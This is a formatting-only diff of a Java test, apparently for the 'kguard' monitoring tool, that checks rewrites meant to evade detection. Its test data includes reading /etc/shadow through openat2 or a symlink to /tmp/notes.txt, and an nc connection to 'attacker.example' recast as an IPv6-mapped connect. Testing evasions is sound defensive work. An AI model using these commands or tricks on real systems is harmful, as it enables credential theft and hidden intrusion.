@@ -32,7 +32,8 @@ class EvasionTest {
         assertThat(words(Evasion.OPENAT2, cat))
                 .containsExactly("/usr/bin/kguard-actor", "read-by", "openat2", "/etc/shadow");
         Rewritten link = Evasion.SYMBOLIC_LINK.rewrite(cat).orElseThrow();
-        assertThat(link.preparation()).containsExactly(command("sh", "-c", "ln -s \"$0\" /tmp/notes.txt", "/etc/shadow"));
+        assertThat(link.preparation())
+                .containsExactly(command("sh", "-c", "ln -s \"$0\" /tmp/notes.txt", "/etc/shadow"));
         assertThat(link.command()).isEqualTo(command("cat", "/tmp/notes.txt"));
     }
 
@@ -55,7 +56,8 @@ class EvasionTest {
         CommandLine connects = command("/usr/lib/kguard/nc", "connect", "attacker.example", "443");
         assertThat(words(Evasion.MAPPED_ADDRESS, connects))
                 .containsExactly("/usr/lib/kguard/nc", "connect6", "attacker.example", "443");
-        assertThat(Evasion.MAPPED_ADDRESS.rewrite(command("nc", "connect", "a", "443"))).isEmpty();
+        assertThat(Evasion.MAPPED_ADDRESS.rewrite(command("nc", "connect", "a", "443")))
+                .isEmpty();
         assertThat(words(Evasion.OPEN, command("/usr/bin/kguard-actor", "read", "/etc/shadow")))
                 .containsExactly("/usr/bin/kguard-actor", "read-by", "open", "/etc/shadow");
     }
